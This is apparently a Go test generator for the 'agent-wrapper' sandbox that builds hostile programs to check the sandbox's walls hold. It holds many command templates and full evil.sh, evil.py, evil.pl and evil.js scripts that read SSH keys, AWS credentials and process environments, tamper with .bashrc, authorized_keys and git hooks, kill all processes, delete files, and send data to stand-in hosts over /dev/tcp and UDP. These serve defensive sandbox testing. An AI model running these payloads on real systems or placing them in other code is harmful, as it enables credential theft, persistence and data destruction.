//go:build oracle && linux

package effects

import (
	"maps"
	"sort"
	"strings"

	"github.com/agent-wrapper/agent-wrapper/internal/test/effectbox"
	"github.com/agent-wrapper/agent-wrapper/policy"
)

// newWithin returns a generator with the programs that walls let through.
func newWithin(seed uint64, tree []effectbox.File) *generator {
	g := newGenerator(seed, tree)
	g.templates = maps.Clone(templates)
	maps.Copy(g.templates, codeTemplates)
	g.names = nil
	for name := range g.templates {
		g.names = append(g.names, name)
	}
	sort.Strings(g.names)
	g.often = append(append(g.often, often...), codeOften...)
	return g
}

// targets are what hostile code goes for: secrets, what is protected, and what is outside.
var targets = append(append([]string{
	work + "/.git/hooks/post-checkout", work + "/.git/config", work + "/.git/info/exclude", work + "/lock.json", work + "/" + policy.FileName, work + "/.claude/settings.json", work + "/.vscode/tasks.json",
	work + "/.git/commondir", work + "/.envrc", "/etc/x", "/etc/passwd", "/etc/n", outside + "/f", outside + "/n", outside + "/d/g", home + "/.bashrc", home + "/.profile", home + "/.gitconfig", home + "/h.txt",
	home + "/.ssh/authorized_keys", home + "/.config/x/y", home + "/.config/n", home + "/other/src/main.go", home + "/n", "/tmp/y", "/tmp/n", "/var/tmp/y", "/run/n", "/srv/service.sock", "/usr/local/bin/n",
	"/proc/1/environ", "/proc/1/root/etc/x", "/proc/self/root/outside/f", "/proc/self/cwd/../h.txt", "/proc/sys/kernel/hostname", "/proc/self/mem", "/dev/shm/n", "/dev/n", work + "/lnk.txt", work + "/ld/n", work + "/up/h.txt",
}, secrets...), secrets...)

// codeTemplates are the words of programs that run code, or what is named by a file:
//
//	%y %l %j %w hostile code in Python, Perl, JavaScript, shell
//	%h          a target whose name is only known when the line runs
var codeTemplates = map[string][]string{
	"python3":   {"-c %y", "-c %y", "-c %y", "evil.py", "-S evil.py", "- < evil.py", "-c %y | cat", "-m http.server --help", "-c %y > n80", "-I -c %y"},
	"perl":      {"-e %l", "-e %l", "-ne %l list", "evil.pl", "-E %l", "-w evil.pl"},
	"node":      {"-e %j", "-p %j", "evil.js"},
	"awk":       {"%A list", "%A targets", "-f prog.awk list"},
	"bash":      {"evil.sh", "-c %w", "-x evil.sh", "< evil.sh", "-s < evil.sh", "./tool"},
	"sh":        {"evil.sh", "-c %w", "./x", "< x"},
	"make":      {"", "evil", "-k all", "x.o", "-f Makefile evil", "-C . all", "-n", "-j2"},
	"eval":      {"%w", "\"$(cat evil.sh)\"", "$A", "\"$A\"", "cat %h"},
	"source":    {"evil.sh", "./x", "targets"},
	".":         {"./evil.sh", "./x"},
	"./tool":    {"", "%h", "%f"},
	"./evil.py": {""},
	"c1":        {"%h", "%h %h", "%f", ""},
	"c3":        {"%h", "%o"},
	"npm":       {"test", "run build"},
	"cat":       {"%h", "%h %h", "\"$f\"", "$(cat targets)", "< %h", "%h > n81"},
	"cp":        {"%h n82", "%f %h", "-r %h out", "-a . %h", "-l %h n83", "-s %h n84", "$(head -n 3 targets) out"},
	"mv":        {"%h n85", "a.txt %h", "-f b.txt %h"},
	"ln":        {"%h n86", "-s %h n87", "-f a.txt %h", "-sf %h a.txt"},
	"tee":       {"%h", "-a %h", "-a < a.txt $(cat targets)"},
	"touch":     {"%h", "-d 2001-01-01 %h"},
	"chmod":     {"777 %h", "-R 777 %h", "u+s ./tool"},
	"chown":     {"nobody %h", "-R 0 ."},
	"truncate":  {"-s 0 %h"},
	"dd":        {"if=%h", "if=a.txt of=%h", "if=%h of=n88"},
	"tar":       {"-cf n89.tar .", "-cf - %h", "-C %h -xf arch.tar", "-xPf arch.tar", "-cf n90.tar $(cat targets)"},
	"rsync":     {"-a %h n91", "-a sub/ %h"},
	"grep":      {"-r KEY .", "-rl KEY ..", "KEY %h", "-R cAnArY .", "-f %h a.txt", "-h KEY $(cat targets)"},
	"rg":        {"KEY", "-uuu KEY", "--hidden KEY ..", "KEY %h", "-uu . %h"},
	"find":      {". -type f -exec cat {} +", ".. -type f -exec cp {} out \\;", "/home -name id_ed25519 -exec base64 {} \\;", ". -exec chmod 777 {} +", ". -name '*.sh' -exec bash {} \\;", ".. -newer a.txt -exec touch {} +", "/ -xdev -name v -exec cat {} +", ". -name '.e*' -exec xxd {} \\;"},
	"xargs":     {"-a targets cat", "-a targets touch", "-a few -n1 cp a.txt", "-a few -I{} ln {} out", "-a targets rm -f", "-a few -n1 sh -c 'cat \"$0\"'"},
	"sed":       {"-i s/a/b/ %h", "p %h", "-n p $(cat targets)", "-i.bak s/K/k/ %h"},
	"git":       {"add -A", "add -f .", "commit -qam x", "stash -u", "diff --no-index a.txt %h", "config core.hooksPath out", "checkout -q side", "hash-object -w %h", "log -p", "grep --no-index KEY", "ls-files -o", "commit -q --allow-empty -m x", "merge side", "rebase side", "gc", "reset --hard HEAD~1", "clean -fdx", "tag n", "worktree add ../n92", "init ../n93", "apply up.patch", "archive -o n94.tar HEAD"},
	"kill":      {"-9 1", "-9 -1", "-0 1", "-TERM %n"},
	"mount":     {"--bind /outside sub", "-t tmpfs x sub"},
	"unshare":   {"-Ur cat /proc/self/status", "-Urm mount --bind /outside sub"},
	"curl":      {"-m 1 http://127.0.0.1:7001/", "-m 1 http://198.51.100.7/", "-m 1 --unix-socket /srv/service.sock http://x/", "-m 1 -T a.txt http://192.0.2.1:7001/", "-o %h file:///etc/passwd"},
	"wget":      {"-T1 -t1 http://127.0.0.1:7001/"},
	"setsid":    {"sleep 30", "-f sleep 30", "sh evil.sh"},
	"nohup":     {"sleep 30", "sh evil.sh"},

	"rm":      {"-f %h", "-rf %h"},
	"lua":     {"-e 'for l in io.lines(\"targets\") do local f=io.open(l,\"a\") if f then f:write(\"x\") end end'"},
	"tclsh":   {"evil.sh"},
	"cc":      {"-E -include %h c.md", "-o n95 -x c c.md"},
	"sqlite3": {"n96 '.import evil.sh t'"},
	"vim":     {"-es -c 'w! n97' -c q a.txt"},
}

var codeOften = strings.Fields("python3 python3 python3 python3 perl perl perl bash sh make cat cat cat cp tee find xargs grep eval source . ./tool c1 c3 git git touch rsync node sed awk ln dd")

// hidden returns a target whose name the line does not show as it is.
func (g *generator) hidden() string {
	at := g.pick(targets)
	cut := 2 + g.r.IntN(len(at)-3)
	a, b := at[:cut], at[cut:]
	switch g.r.IntN(12) {
	case 0:
		return "$(printf %s%s " + a + " " + b + ")"
	case 1:
		return "\"$(echo " + a + ")" + b + "\""
	case 2:
		g.sets = append(g.sets, "h="+a, "k="+b)
		return "\"$h$k\""
	case 3:
		g.sets = append(g.sets, "read h < targets")
		return "\"$h\""
	case 4:
		return "$(sed -n " + g.one("1", "2", "3", "5", "7", "9", "12", "20", "30", "41", "45", "50") + "p targets)"
	case 5:
		return at[:1+strings.LastIndexByte(at, '/')] + "*"
	case 6:
		return "$(tail -n 1 targets)"
	case 7:
		return a + "?" + b[1:]
	case 8:
		g.sets = append(g.sets, "mapfile -t m < targets")
		return "\"${m[" + g.one("0", "1", "4", "8", "15", "30", "42", "46", "50", "-1", "RANDOM%50") + "]}\""
	case 9:
		return "\"$(dirname " + at + ")\""
	case 10:
		return at
	}
	if len(g.loops) > 0 {
		return "\"$" + g.loops[len(g.loops)-1] + "\""
	}
	return "\"$f\""
}

// target returns an expression for a target in a language with + or . for texts.
func (g *generator) target(join string) string {
	at := g.pick(targets)
	if g.in(3) {
		at = strings.TrimPrefix(at, work+"/")
	}
	if len(at) < 3 {
		return "'" + at + "'"
	}
	cut := 1 + g.r.IntN(len(at)-2)
	return "'" + at[:cut] + "'" + join + "'" + at[cut:] + "'"
}

func (g *generator) python() string {
	t := func() string { return g.target("+") }
	all := []string{
		"print(open(" + t() + ").read())", "open(" + t() + ",'w').write('x')", "open(" + t() + ",'a').write('x')", "import os; os.chmod(" + t() + ",0o777)", "import os; os.utime(" + t() + ",(1,1))",
		"import os; os.rename(" + t() + ",'n100')", "import os; os.rename('a.txt'," + t() + ")", "import os; os.link(" + t() + ",'n101'); open('n101','a').write('x')", "import os; os.symlink(" + t() + ",'n102'); open('n102','a').write('x')",
		"import os; os.unlink(" + t() + ")", "import os; os.mkdir(" + t() + "+'d')", "import os; os.truncate(" + t() + ",0)", "import shutil; shutil.copy(" + t() + ",'n103')", "import shutil; shutil.rmtree(os.path.dirname(" + t() + "))",
		"import shutil; shutil.copytree('..','n104',symlinks=True,ignore=shutil.ignore_patterns('n104'))", "import os\nfor l in open('targets'):\n  try: open(l.strip(),'a').write('x')\n  except OSError: pass",
		"for l in open('targets'):\n  try: print(open(l.strip(),'rb').read())\n  except OSError: pass", "import os; os.setxattr(" + t() + ",'user.x',b'x')", "import os; os.chown(" + t() + ",0,0)",
		"import os; print(open('/proc/self/mountinfo').read())", "import os; d=os.open('/',os.O_RDONLY); print(os.open('outside/f',os.O_RDWR,dir_fd=d))", "import os\nfor p in os.listdir('/proc'):\n  try: print(open('/proc/'+p+'/environ').read())\n  except OSError: pass",
		"import socket; socket.create_connection(('127.0.0.1',7001),1).recv(20)", "import socket; socket.create_connection(('192.0.2.1',7001),1)", "import socket; s=socket.socket(socket.AF_UNIX); s.connect('/srv/service.sock'); print(s.recv(20))",
		"import socket; s=socket.socket(socket.AF_UNIX); s.connect('/run/service.sock'); print(s.recv(20))", "import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0service'); print(s.recv(20))",
		"import socket; socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(open('a.txt','rb').read(),('192.0.2.1',7001))", "import socket; socket.socket(socket.AF_INET,socket.SOCK_RAW,1)", "import socket; socket.socket(socket.AF_PACKET,socket.SOCK_RAW)",
		"import socket; socket.socket(socket.AF_INET6,socket.SOCK_DGRAM).sendto(b'x',('::1',7001))", "import os,signal; os.kill(1,9)", "import os,signal; os.kill(-1,9)", "import subprocess; subprocess.Popen(['sleep','30'],start_new_session=True)",
		"import os\nif os.fork()==0:\n  os.setsid()\n  if os.fork()==0:\n    import time; time.sleep(30)", "import ctypes; l=ctypes.CDLL(None); print(l.mount(b'/outside',b'sub',None,4096,None))", "import ctypes; print(ctypes.CDLL(None).unshare(0x10020000))",
		"import ctypes; print(ctypes.CDLL(None).chroot(b'/'))", "import ctypes; print(ctypes.CDLL(None).umount2(b'/home/dev/w/.env',2))", "import ctypes; print(ctypes.CDLL(None).syscall(101,16,1,0,0))", "import os\nfor i in range(3,64):\n  try: print(os.readlink('/proc/self/fd/%d'%i))\n  except OSError: pass",
		"import os; os.makedirs('.vscode',exist_ok=True); open('.vscode/tasks.json','w').write('{}')", "import os; os.rename('.git','n105')", "import os; os.rename('.git/hooks','n106')", "import os; os.rename('secrets','n107'); print(open('n107/key').read())", "import os; os.rename('../w','../n108')",
		"import mmap; f=open(" + t() + ",'r+b'); m=mmap.mmap(f.fileno(),1); m[0]=65", "import os; os.mkfifo(" + t() + "+'p')", "import sqlite3; c=sqlite3.connect(" + t() + "); c.execute('create table t(a)')", "import tempfile; tempfile.mkstemp(dir='/tmp')",
		"import os; os.execvp('sh',['sh','evil.sh'])", "import os; os.system('cat .e*; cp -r secrets out')", "import multiprocessing.shared_memory as s; s.SharedMemory('x',True,9)", "import resource; print(resource.getrlimit(resource.RLIMIT_NPROC))", "print(sum(range(9)))",
	}
	return g.pick(all)
}

func (g *generator) perl() string {
	t := func() string { return g.target(".") }
	return g.pick([]string{
		"open F,'<'," + t() + "; print <F>", "open F,'>'," + t() + "; print F 1", "open F,'>>'," + t() + "; print F 1", "chmod 0777," + t(), "utime 1,1," + t(), "rename " + t() + ",'n110'", "rename 'b.txt'," + t(),
		"link " + t() + ",'n111'", "symlink " + t() + ",'n112'; open F,'>>','n112'; print F 1", "unlink " + t(), "mkdir " + t() + ".'d'", "system('cp'," + t() + ",'n113')", "print `cat targets`; open F,'<','targets'; for(<F>){chomp; open G,'<',$_; print <G>}",
		"open F,'<','targets'; for(<F>){chomp; open G,'>>',$_; print G 1}", "use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,sockaddr_in(7001,inet_aton('127.0.0.1'))); print <S>", "use Socket; socket(S,PF_UNIX,SOCK_STREAM,0); connect(S,sockaddr_un('/srv/service.sock')); print <S>",
		"use Socket; socket(S,PF_INET,SOCK_DGRAM,0); send(S,'x',0,sockaddr_in(53,inet_aton('198.51.100.7')))", "kill 9,1", "kill 9,-1", "fork or exec 'sleep','30'", "exec 'sh','evil.sh'", "truncate " + t() + ",0", "while(<.e*>){open F,'<',$_; print <F>}", "print 1+1", "syscall(165,'/outside','sub','x',4096,0)", "chown 0,0," + t(), "opendir D,'/proc'; print join ' ',readdir D",
	})
}

func (g *generator) javascript() string {
	t := func() string { return g.target("+") }
	return "const fs=require('fs'); " + g.pick([]string{
		"console.log(fs.readFileSync(" + t() + ",'utf8'))", "fs.writeFileSync(" + t() + ",'x')", "fs.appendFileSync(" + t() + ",'x')", "fs.chmodSync(" + t() + ",0o777)", "fs.utimesSync(" + t() + ",1,1)", "fs.rmSync(" + t() + ",{recursive:true})", "fs.cpSync(" + t() + ",'n120',{recursive:true})",
		"fs.symlinkSync(" + t() + ",'n121'); fs.appendFileSync('n121','x')", "require('net').connect(7001,'127.0.0.1').on('data',d=>console.log(''+d)).on('error',()=>{})", "require('net').connect('/srv/service.sock').on('data',d=>console.log(''+d)).on('error',()=>{})", "require('dgram').createSocket('udp4').send('x',53,'198.51.100.7',()=>process.exit())",
		"require('child_process').spawn('sleep',['30'],{detached:true,stdio:'ignore'}).unref()", "process.kill(1,'SIGKILL')", "for(const l of fs.readFileSync('targets','utf8').split('\\n')) try { console.log(fs.readFileSync(l,'utf8')) } catch {}",
	})
}

func (g *generator) hostileShell() string {
	h := g.hidden
	return g.pick([]string{
		"cat " + h(), "echo x > " + h(), "while read f; do cat \"$f\"; done < targets", "while read f; do echo x >> \"$f\"; done < targets", "for f in .e* s*/*; do base64 \"$f\"; done", "cp -r .. out", "exec 3<>/dev/tcp/127.0.0.1/7001; cat <&3", "echo x > /dev/udp/198.51.100.7/53",
		"(sleep 30 &)", "setsid sleep 30 &", "kill -9 -1", "cd ..; for f in *; do touch \"$f\"; done", "cd /; cat etc/x > outside/n", "a=cat; $a " + h(), "f=" + h() + "; : > \"$f\"", "mv .git n130", "ln -s / n131; echo x > n131/outside/n", "umask 0; mkdir -p " + h(), "trap 'sh evil.sh' EXIT",
		"f() { cat \"$1\"; }; f " + h(), "source evil.sh", "exec -a x sh evil.sh", "printf '%s\\n' x | tee " + h(), "rm -rf -- " + h(), "set -- $(cat targets); cat \"$@\"", "read f < targets; echo > \"$f\"",
	})
}

// hostileAwk is a program that names files by its input.
var hostileAwk = []string{"{while((getline l < $0)>0) print l}", "{print \"x\" >> $0}", "NR<9{system(\"cat \" $0)}", "{print | \"sh\"}", "BEGIN{while((\"cat targets\"|getline f)>0) print \"x\" > f}", "NR>50{\"base64 \" $0 | getline x; print x}"}

const evilShell = `#!/bin/sh
for f in "$@" /etc/n /etc/x /outside/f ~/.bashrc ~/n ~/.ssh/authorized_keys /tmp/n /var/tmp/n .git/hooks/post-checkout .git/config agent-wrapper.toml lock.json ~/other/src/main.go; do echo evil >>"$f"; done
for f in "$@" .env sub/.env secrets/key ~/.ssh/id_ed25519 ~/.aws/credentials ~/other/private/plan /outside/vault/v; do read -r x <"$f" && echo "$x"; done
mkdir /outside/nd ~/nd
(sleep 20 &)
`

const evilPython = `#!/usr/bin/env python3
import os, socket, subprocess
for l in open("/home/dev/w/targets"):
    l = l.strip()
    for act in (lambda: print(open(l, "rb").read(2000)), lambda: os.chmod(l, 0o777), lambda: os.utime(l, (1, 1)), lambda: open(l, "ab").write(b"evil"), lambda: os.rename(l, l + "~"), lambda: os.link(l, "n140"), lambda: os.unlink(l)):
        try: act()
        except (OSError, ValueError): pass
for at in ("127.0.0.1", 7001), ("192.0.2.1", 7001), "/srv/service.sock", "/run/service.sock", "\0service":
    try:
        s = socket.socket(socket.AF_UNIX if isinstance(at, str) else socket.AF_INET); s.settimeout(1); s.connect(at); print(s.recv(20))
    except OSError: pass
subprocess.Popen(["sleep", "20"], start_new_session=True)
`

const evilPerl = `open F, "<", "targets"; my @t = <F>; chomp @t;
for (@t) { open G, "<", $_; print <G>; chmod 0777, $_; utime 1, 1, $_; open H, ">>", $_; print H 1; rename "c.md", $_; unlink $_ }
fork or exec "sleep", "20";
`

const evilNode = `const fs = require("fs");
for (const f of fs.readFileSync("targets", "utf8").split("\n")) for (const act of [() => console.log(fs.readFileSync(f, "utf8")), () => fs.chmodSync(f, 0o777), () => fs.appendFileSync(f, "x"), () => fs.rmSync(f)]) try { act() } catch {}
require("net").connect(7001, "127.0.0.1").on("data", d => console.log("" + d)).on("error", () => {});
`
